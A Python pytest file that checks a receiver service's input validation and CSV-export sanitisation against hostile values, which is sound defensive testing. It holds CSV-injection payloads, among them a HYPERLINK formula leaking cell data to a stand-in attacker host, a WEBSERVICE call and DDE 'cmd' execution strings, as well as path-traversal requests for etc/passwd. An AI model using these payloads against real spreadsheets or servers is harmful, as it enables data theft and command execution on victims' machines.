"""Hostile query parameters, paths and CSV cells against real receiver processes, on SQLite
and on PostgreSQL: every out-of-range or malformed value is a 400 naming the parameter
(never a 500 with a traceback, never a 503 from the database), and no exported cell is a
formula a spreadsheet would evaluate."""

from __future__ import annotations

import base64
import csv
import io
import json
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from typing import Any

import pytest

from tests.receiver.processes import start_receiver
from tests.support.processes import Process
from tests.support.receiver import BACKENDS, drop_schema, fresh_pg_url

INT64_MAX = 2**63 - 1


def cursor_of(text: str) -> str:
    return base64.urlsafe_b64encode(text.encode()).decode().rstrip("=")


class Receiver:
    def __init__(self, process: Process, url: str) -> None:
        self.process = process
        self.url = url

    def get(self, path: str) -> tuple[int, bytes]:
        try:
            with urllib.request.urlopen(self.url + path, timeout=30) as resp:
                return resp.status, resp.read()
        except urllib.error.HTTPError as exc:
            return exc.code, exc.read()

    def push(self, record: dict[str, Any]) -> None:
        request = urllib.request.Request(
            self.url + "/Record",
            data=json.dumps(record).encode(),
            headers={"Content-Type": "application/json"},
        )
        with urllib.request.urlopen(request, timeout=10) as resp:
            assert json.loads(resp.read())["code"] == 200


@pytest.fixture(scope="module", params=BACKENDS)
def receiver(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, pg_dsn: str
) -> Iterator[Receiver]:
    tmp = tmp_path_factory.mktemp(f"hostile-queries-{request.param}")
    schema = None
    if request.param == "sqlite":
        db_url = f"sqlite:///{tmp / 'receiver.sqlite3'}"
    else:
        db_url, schema = fresh_pg_url(pg_dsn)
    process, url = start_receiver(tmp / "receiver.log", "--db", db_url)
    try:
        yield Receiver(process, url)
        assert "Traceback" not in process.output(), process.output()[-3000:]
    finally:
        process.stop()
        if schema is not None:
            drop_schema(pg_dsn, schema)


NUMBERS = [
    str(INT64_MAX + 1),  # beyond int64
    str(-(2**63) - 1),
    "9" * 5000,  # 5,000 digits
    "²",  # a superscript digit: str.isdigit() says yes, int() says no
    "١٢",  # Arabic-Indic digits, which int() accepts
    "１２",  # full-width digits, which int() accepts
    "1_000",  # int() accepts underscores
    " 5",
    "+5",
    "5.0",
    "0x10",
    "",
]
LIMITS = ["²", "1" * 5000, "0", "-1", "1001", "١", "10 ", "+10", str(2**64)]
CURSORS = [
    cursor_of(f"e1:{2**64}"),  # above 64 bits
    cursor_of(f"e1:{INT64_MAX + 1}"),
    cursor_of("e1:0"),
    cursor_of("e1:-5"),
    cursor_of("e1:²"),
    cursor_of("e1:١٢"),
    cursor_of("d1:5"),  # a cursor of /api/devices
    "A" * 5000,
    "%00",
    "%C2%B2",
]


def quoted(value: str) -> str:
    return urllib.parse.quote(value, safe="%")


def assert_refused(rx: Receiver, path: str, name: str) -> None:
    status, raw = rx.get(path)
    reply = json.loads(raw)
    assert (status, reply["code"]) == (400, 400), (path[:80], status, raw[:200])
    assert reply["msg"].startswith(f"{name}:"), reply["msg"]
    assert len(reply["msg"]) < 300  # a 5,000-character value is not echoed back whole


@pytest.mark.parametrize("name", ["since", "until"])
@pytest.mark.parametrize("value", NUMBERS)
def test_times_out_of_range_or_not_ascii_digits_are_400(
    receiver: Receiver, name: str, value: str
) -> None:
    for path in ("/api/events", "/api/export.csv"):
        assert_refused(receiver, f"{path}?{name}={quoted(value)}", name)


def test_times_at_the_int64_bounds_are_accepted(receiver: Receiver) -> None:
    for query in (f"since={INT64_MAX}", f"until={-(2**63)}", "since=-5", "until=0"):
        status, raw = receiver.get(f"/api/events?{query}")
        assert status == 200 and json.loads(raw)["data"]["items"] == [], query


@pytest.mark.parametrize("value", LIMITS)
def test_limits_out_of_range_are_400(receiver: Receiver, value: str) -> None:
    for path in ("/api/events", "/api/alarms", "/api/devices", "/api/quarantine"):
        assert_refused(receiver, f"{path}?limit={quoted(value)}", "limit")


@pytest.mark.parametrize("value", CURSORS)
def test_cursors_out_of_range_are_400(receiver: Receiver, value: str) -> None:
    paths = ["/api/events", "/api/quarantine", "/api/export.csv", "/api/alarms"]
    for path in paths:
        assert_refused(receiver, f"{path}?cursor={value}", "cursor")


@pytest.mark.parametrize("name", ["device", "user_id"])
@pytest.mark.parametrize("value", ["%00", "a%00b", "%00" * 100])
def test_nul_in_a_text_filter_is_400_not_503(receiver: Receiver, name: str, value: str) -> None:
    for path in ("/api/events", "/api/export.csv"):
        assert_refused(receiver, f"{path}?{name}={value}", name)


@pytest.mark.parametrize(
    ("path", "status", "name"),
    [
        ("/api/events/%00", 400, "key"),
        ("/api/events/r:a%00b", 400, "key"),
        ("/api/events/" + "x" * 5000, 404, None),
        ("/api/events/%ff%fe", 404, None),
        ("/api/events/%2e%2e%2f%2e%2e%2fetc%2fpasswd", 404, None),
        ("/api/events/r:%E2%80%AE%F0%9F%92%A3", 404, None),
        ("/api/images/%00", 400, "id"),
        ("/api/images/" + "a" * 64 + "%0A", 400, "id"),
        ("/api/images/" + "A" * 64, 400, "id"),
        ("/api/images/%2e%2e%2f%2e%2e%2fetc%2fpasswd", 400, "id"),
        ("/api/images/" + "0" * 64, 404, None),
    ],
)
def test_hostile_paths_get_a_named_4xx(
    receiver: Receiver, path: str, status: int, name: str | None
) -> None:
    got, raw = receiver.get(path)
    reply = json.loads(raw)
    assert (got, reply["code"]) == (status, status), (path[:80], got, raw[:200])
    if name is not None:
        assert reply["msg"].startswith(f"{name}:"), reply["msg"]
    assert len(reply["msg"]) < 300


FORMULAS = {
    "hyperlink": '=HYPERLINK("http://attacker.example/?leak="&A1,"click")',
    "webservice": '=WEBSERVICE("http://attacker.example/")',
    "dde": "+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "fullwidth": "＝1+1",
}


def test_csv_export_neutralises_formula_cells(receiver: Receiver) -> None:
    for n, (label, formula) in enumerate(FORMULAS.items()):
        user = {"user_id": formula if n % 2 else f"csv-{label}", "name": formula}
        receiver.push(
            {
                "type": 0,
                "data": {
                    "uuid": f"csv-{label}",
                    "deviceSN": formula if label == "dde" else "CSV-1",
                    "pass": True,
                    "timestamp": 1_700_000_000 + n,
                    "bodyTemperature": -1.5,
                    "user": user,
                    "remark": formula,
                },
            }
        )
    receiver.push(
        {
            "type": 0,
            "data": {"uuid": "csv-number", "deviceSN": "CSV-1", "user": {"user_id": "-15"}},
        }
    )
    status, raw = receiver.get("/api/export.csv?device=CSV-1")
    assert status == 200
    _, raw_dde = receiver.get("/api/export.csv?device=" + quoted(FORMULAS["dde"]))
    rows = list(csv.DictReader(io.StringIO(raw.decode())))
    rows += list(csv.DictReader(io.StringIO(raw_dde.decode())))
    by_uuid = {row["uuid"]: row for row in rows}
    assert set(by_uuid) == {f"csv-{label}" for label in FORMULAS} | {"csv-number"}
    for n, (label, formula) in enumerate(FORMULAS.items()):
        row = by_uuid[f"csv-{label}"]
        assert row["user_name"] == "'" + formula, label  # shown as text, not evaluated
        if n % 2:
            assert row["user_id"] == "'" + formula, label
        if label == "dde":
            assert row["device"] == "'" + formula
        fields = json.loads(row["fields"])  # the JSON cell keeps the record as it came
        assert fields["remark"] == formula and fields["bodyTemperature"] == -1.5
        for column, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r＝" or cell.lstrip("-").isdigit(), (
                label,
                column,
                cell,
            )
    number = by_uuid["csv-number"]
    assert number["user_id"] == "-15"  # a plain number is left a number
    assert number["received_at"].isdigit() and number["type"] == "0"


def test_the_receiver_stayed_up(receiver: Receiver) -> None:
    status, raw = receiver.get("/healthz")
    assert status == 200 and json.loads(raw)["code"] == 200
